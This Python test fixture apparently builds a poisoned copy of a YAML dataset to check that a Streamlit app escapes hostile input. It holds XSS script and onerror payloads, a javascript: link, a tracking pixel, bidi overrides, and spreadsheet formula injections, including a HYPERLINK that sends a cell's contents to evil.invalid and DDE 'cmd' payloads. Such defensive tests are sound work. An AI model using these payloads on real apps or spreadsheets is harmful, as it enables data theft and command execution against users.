"""A copy of the fixture dataset whose texts try to break out: markup, scripts, links, huge strings,
shortcodes, headings, bidi overrides, a tracking pixel and spreadsheet formulas.

Every poisoned text starts with a formula (for the downloads) and ends with one of the other payloads;
the dataset title carries an image and a heading, each metric title a heading and shortcodes."""

from __future__ import annotations

from pathlib import Path

import yaml

from stances.yaml_reader import parse_text

SCRIPT = "<script>window.__pwned = 1; alert('xss')</script>"
IMG = "<img src=x onerror=\"window.__pwned = 2; alert('img')\">"
LINK = "[click me](javascript:window.__pwned=3)"
LONG = ("Очень длинный текст — " * 250)[:5000]
RTL = "مرحبا بالعالم שלום עולם"
EMOJI = "🕊️🇺🇦🇷🇺 ⚑"
SHORTCODES = ":streamlit: :material/home: :red[red text] :smile:"
HEADING = "heading ahead\n# Heading from data\n## another"
BIDI = "\u202edesrever\u202c \u2066isolated\u2069 zero\u200bwidth"  # the validator warns; U+2028 and CR it refuses
PIXEL = "![pixel](https://tracker.invalid/pixel.png)"
HOSTILE = [SCRIPT, IMG, LINK, LONG, RTL, EMOJI, SHORTCODES, HEADING, BIDI, PIXEL]
FORMULAS = [
    '=HYPERLINK("https://evil.invalid/?x="&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]
# What must never reach a page unescaped (AppTest) or appear as markup (browser).
RAW = ["<script", "<img", "](javascript", "](https://tracker", "![", ":streamlit:", ":material/", ":red[",
       ":smile:", "\u202e", "\u2066", "\u2028"]  # fmt: skip
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\n")  # CR is written as LF in a file
FIELDS = ("name", "title", "summary", "quote", "note", "description", "publisher", "label")


def _poison(value: str, n: int) -> str:
    return f"{FORMULAS[n % len(FORMULAS)]} {value} {HOSTILE[n % len(HOSTILE)]}"


def write(source: Path, target: Path) -> Path:
    """Write the poisoned copy of `source` (a data folder) into `target`; return `target`."""
    target.mkdir(parents=True, exist_ok=True)
    for path in sorted(source.glob("*.yaml")):
        data = parse_text(path.read_text(encoding="utf-8")).data
        records = data["values"] + data["metrics"] if path.name == "figures.yaml" else data
        if isinstance(records, list):
            for n, record in enumerate(records):
                for field in FIELDS:
                    if isinstance(record.get(field), str):
                        record[field] = _poison(record[field], n)
                for point in record.get("points", []):
                    point["summary"] = _poison(point["summary"], n + 1)
        if path.name == "figures.yaml":
            for metric in data["metrics"]:
                metric["title"] = f"{FORMULAS[0]} {metric['title']}\n# {SHORTCODES}"
        if path.name == "dataset.yaml":
            data["title"] = f"{data['title']} {PIXEL}\n# {BIDI}"
            data["description"] = _poison(data["description"], 2)
        (target / path.name).write_text(
            yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8"
        )
    return target
